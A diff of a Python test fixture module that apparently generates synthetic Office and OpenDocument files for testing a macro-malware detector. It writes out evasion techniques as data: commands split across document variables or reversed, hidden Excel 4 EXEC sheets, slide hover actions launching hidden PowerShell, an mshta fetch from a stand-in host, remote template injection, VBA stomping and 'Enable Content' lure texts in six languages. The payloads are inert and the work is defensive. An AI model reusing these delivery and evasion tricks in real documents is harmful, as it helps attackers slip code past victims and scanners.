@@ -2,6 +2,12 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
+
+from tests.engines.macros import files, shapes
+from tests.office import vbamake
+from tests.unpack import officefiles
+
 # By heuristic: a source that must have it, and one like it that must not.
 BASIC: dict[str, tuple[str, str]] = {
     "autorun.open": ("Private Sub Document_Open()\nEnd Sub", "Sub MyOpen()\n  Document_Open\nEnd Sub"),
@@ -15,6 +21,10 @@ BASIC: dict[str, tuple[str, str]] = {
     "execute.shellexecute": ('o.ShellExecute "calc"', 'MsgBox "ShellExecute"'),
     "execute.wmi": ('Set o = GetObject("winmgmts:root")', 'Set o = GetObject("c:\\book.xls")'),
     "execute.script": ('Set o = CreateObject("MSScriptControl.ScriptControl")', "' MSScriptControl\nx = 1"),
+    "execute.popen": (
+        'Private Declare PtrSafe Function popen Lib "libc.dylib" (ByVal c As String) As LongPtr',
+        'MsgBox "popen"',
+    ),
     "execute.excel4": ('Application.ExecuteExcel4Macro "GET.CELL(1)"', 'MsgBox "ExecuteExcel4Macro"'),
     "execute.task": ('Set s = CreateObject("Schedule.Service")', 'MsgBox "Schedule a service"'),
     "execute.keys": ('SendKeys "%{F11}"', "Dim SendKeys As Boolean"),
@@ -205,4 +215,161 @@ HARMLESS: dict[str, str] = {
     "rot13": "Function R(s)\nFor i = 1 To Len(s)\nR = R & Chr(Asc(Mid(s, i, 1)) + 1)\nNext\nEnd Function",
     "web-query": 'Sub Q()\nSet h = CreateObject("MSXML2.XMLHTTP")\n'
     'h.Open "GET", "https://example.invalid/rates", False\nEnd Sub',
+}
+
+
+# ---------------------------------------------------------------------------- whole files
+
+
+def graded() -> Iterator[tuple[str, bool, str, bytes]]:
+    """For the guard over all engines: what each is called, whether it is hostile in shape, its file name, its bytes."""
+    for number, (name, source) in enumerate((HOSTILE | shapes.HOSTILE).items()):
+        project = vbamake.streams({"Module1": source})
+        if number % 2:
+            yield f"vba-{name}", True, "a.doc", files.old(project)
+        else:
+            yield f"vba-{name}", True, "a.docm", files.docm(officefiles.ole(project))
+    for number, (name, source) in enumerate((HARMLESS | shapes.HARMLESS).items()):
+        project = vbamake.streams({"Module1": source})
+        if number % 2:
+            yield f"vba-{name}", False, "a.doc", files.old(project)
+        else:
+            yield f"vba-{name}", False, "a.docm", files.docm(officefiles.ole(project))
+    yield from _excel4()
+    yield from _basic()
+    yield from _stores()
+    yield from _around()
+    yield from _stomped()
+
+
+def _excel4() -> Iterator[tuple[str, bool, str, bytes]]:
+    beside = ("cmd", ".exe")
+    for name, rows in shapes.XLM.items():
+        yield f"xls-{name}", True, "a.xls", files.biff8(rows, texts=beside)
+        yield f"xlsm-{name}", True, "a.xlsm", files.xlsm(rows, texts=beside)
+        yield f"xlsb-{name}", True, "a.xlsb", files.xlsb(rows, texts=beside)
+    yield "xls-hidden", True, "a.xls", files.biff8(['EXEC("calc")'], hidden=2, name="auto_open_x")
+    yield "xlsm-hidden", True, "a.xlsm", files.xlsm(['EXEC("calc")'], hidden="veryHidden")
+    yield "slk", True, "a.slk", files.sylk(shapes.XLM["exec"])
+    for name, rows in shapes.XLM_HARMLESS.items():
+        yield f"xls-{name}", False, "a.xls", files.biff8(rows)
+        yield f"xlsm-{name}", False, "a.xlsm", files.xlsm(rows)
+        yield f"xlsb-{name}", False, "a.xlsb", files.xlsb(rows, auto=False)
+    yield "slk-alert", False, "a.slk", files.sylk(shapes.XLM_HARMLESS["alert"])
+
+
+def _basic() -> Iterator[tuple[str, bool, str, bytes]]:
+    for name, source in shapes.BASIC.items():
+        yield f"odt-{name}", True, "a.odt", files.odt(source)
+    yield "odt-apart", True, "a.odt", files.odt('Const a = "cmd.exe /c echo"', "Sub Main\n Shell(a)\nEnd Sub")
+    for name, source in shapes.BASIC_HARMLESS.items():
+        yield f"odt-{name}", False, "a.odt", files.odt(source)
+
+
+def _stores() -> Iterator[tuple[str, bool, str, bytes]]:
+    """Texts that the code reads from elsewhere."""
+    run = "Sub AutoOpen()\nx = {}\nShell x, 0\nEnd Sub"
+    command = "powershell -c 1"
+    two = vbamake.project(run.format('ActiveDocument.Variables("a").Value & ActiveDocument.Variables("b").Value'))
+    yield "variables", True, "a.docm", files.docm(two, parts=files.settings(a="power", b="shell -c 1"))
+    back = vbamake.project(run.format('StrReverse(ActiveDocument.Variables("a"))'))
+    yield "backwards", True, "a.docm", files.docm(back, parts=files.settings(a=command[::-1]))
+    own = vbamake.project(run.format('ActiveDocument.CustomDocumentProperties("Key").Value'))
+    yield "custom-property", True, "a.docm", files.docm(own, parts=files.custom(Key=command))
+    comments = run.format('ActiveDocument.BuiltInDocumentProperties("Comments").Value')
+    yield "comments", True, "a.docm", files.docm(vbamake.project(comments), parts=files.core(command))
+    yield (
+        "comments-old",
+        True,
+        "a.doc",
+        files.old(
+            vbamake.streams({"A": comments}),
+            more={"\x05SummaryInformation": files.properties(title="t", comments=command)},
+        ),
+    )
+    yield (
+        "form-caption",
+        True,
+        "a.docm",
+        files.docm(files.form(run.format("UserForm1.Label1.Caption"), "Name", command)),
+    )
+    yield "form-tag", True, "a.docm", files.docm(files.form(run.format("StrReverse(UserForm1.Tag)"), command[::-1]))
+    table = "variables".encode("utf-16-le") + command.encode("utf-16-le")
+    yield (
+        "variables-old",
+        True,
+        "a.doc",
+        files.old(vbamake.streams({"A": run.format('ActiveDocument.Variables("a")')}), more={"1Table": table}),
+    )
+    show = 'Sub AutoOpen()\nMsgBox ActiveDocument.Variables("a").Value & UserForm1.Caption\nEnd Sub'
+    yield "form-labels", False, "a.docm", files.docm(files.form(show, "Name", "Address", "OK", "Cancel"))
+    yield (
+        "variables-shown",
+        False,
+        "a.docm",
+        files.docm(vbamake.project(show), parts=files.settings(a="Version 3", b="https://example.invalid")),
+    )
+    yield (
+        "custom-shown",
+        False,
+        "a.docm",
+        files.docm(
+            vbamake.project('Sub AutoOpen()\nMsgBox ActiveDocument.CustomDocumentProperties("Client")\nEnd Sub'),
+            parts=files.custom(Client="Command and Conquer Shell Company"),
+        ),
+    )
+    yield (
+        "properties-shown",
+        False,
+        "a.doc",
+        files.old(
+            vbamake.streams({"A": 'Sub P()\nMsgBox ActiveDocument.BuiltInDocumentProperties("Title")\nEnd Sub'}),
+            more={"\x05SummaryInformation": files.properties(title="Report on PowerShell", author="Alice")},
+        ),
+    )
+
+
+def _around() -> Iterator[tuple[str, bool, str, bytes]]:
+    """Lures, templates, controls, slides."""
+    shell = vbamake.project('Sub AutoOpen()\nShell "notepad a.txt"\nEnd Sub')
+    control = vbamake.project('Sub InkPicture1_Painted()\nShell "cmd.exe /c echo 1"\nEnd Sub')
+    click = vbamake.project('Sub Go()\nShell "cmd.exe /c powershell -c 1"\nEnd Sub')
+    for name, text in LURES.items():
+        yield f"lure-{name}", True, "a.docm", files.docm(shell, text)
+    yield "template", True, "a.docm", files.docm(shell, parts=files.template("http://example.invalid/a.dotm"))
+    yield "activex", True, "a.docm", files.docm(control, parts={"word/activeX/activeX1.xml": "<ax:ocx/>"})
+    yield "slide-hover-macro", True, "a.pptm", files.pptm("ppaction://macro?name=Go", hover=True, project=click)
+    program, powershell = "ppaction://program", "powershell%20-w%20hidden%20-c%201"
+    yield "slide-hover-program", True, "a.pptx", files.pptm(program, hover=True, target=powershell)
+    yield "slide-click-program", True, "a.pptx", files.pptm(program, target="file:///C:\\Windows\\System32\\cmd.exe")
+    yield "slide-link", True, "a.pptx", files.pptm("", target="mshta http://example.invalid")
+    yield "slide-old", True, "a.ppt", files.ppt(2, "powershell -c 1", hover=True)
+    message = vbamake.project('Sub Go()\nMsgBox "Right!"\nEnd Sub')
+    update = vbamake.project("Sub AutoOpen()\nActiveDocument.Fields.Update\nEnd Sub")
+    yield "lure-honest", False, "a.docm", files.docm(update, LURES["en"])
+    yield "template-honest", False, "a.docm", files.docm(update, parts=files.template("file:///C:\\a.dotm"))
+    yield "activex-honest", False, "a.docm", files.docm(message, parts={"word/activeX/activeX1.xml": "<ax:ocx/>"})
+    yield "slide-macro", False, "a.pptm", files.pptm("ppaction://macro?name=Go", project=message)
+    yield "slide-hover-honest", False, "a.pptm", files.pptm("ppaction://macro?name=Go", hover=True, project=message)
+    yield "slide-jump", False, "a.pptx", files.pptm("ppaction://hlinksldjump")
+    yield "slide-web", False, "a.pptx", files.pptm("", target="https://example.invalid/powershell.exe")
+    yield "slide-file", False, "a.pptx", files.pptm("ppaction://hlinkfile", target="notes.docx")
+    yield "slide-old-honest", False, "a.ppt", files.ppt(4, "next")
+
+
+def _stomped() -> Iterator[tuple[str, bool, str, bytes]]:
+    cache = vbamake.literal("powershell -c 1") + bytes(200)
+    empty = vbamake.streams({"Module1": ""}, names=("AutoOpen", "Shell"), cache=cache)
+    other = vbamake.streams({"Module1": 'Sub Hello()\nMsgBox "a"\nEnd Sub'}, names=("AutoOpen", "Shell"), cache=cache)
+    yield "stomped-empty", True, "a.doc", files.old(empty)
+    yield "stomped-exchanged", True, "a.docm", files.docm(officefiles.ole(other))
+
+
+LURES: dict[str, str] = {
+    "en": "This document is protected. Please click Enable Editing and then Enable Content.",
+    "de": "Bitte klicken Sie auf \u201eInhalt aktivieren\u201c.",
+    "fr": "Cliquez sur \u00ab Activer la modification \u00bb puis sur \u00ab Activer le contenu \u00bb.",
+    "es": "Haga clic en Habilitar contenido.",
+    "ru": "Нажмите «Включить содержимое».",
+    "ja": "「コンテンツの有効化」をクリックしてください。",
 }
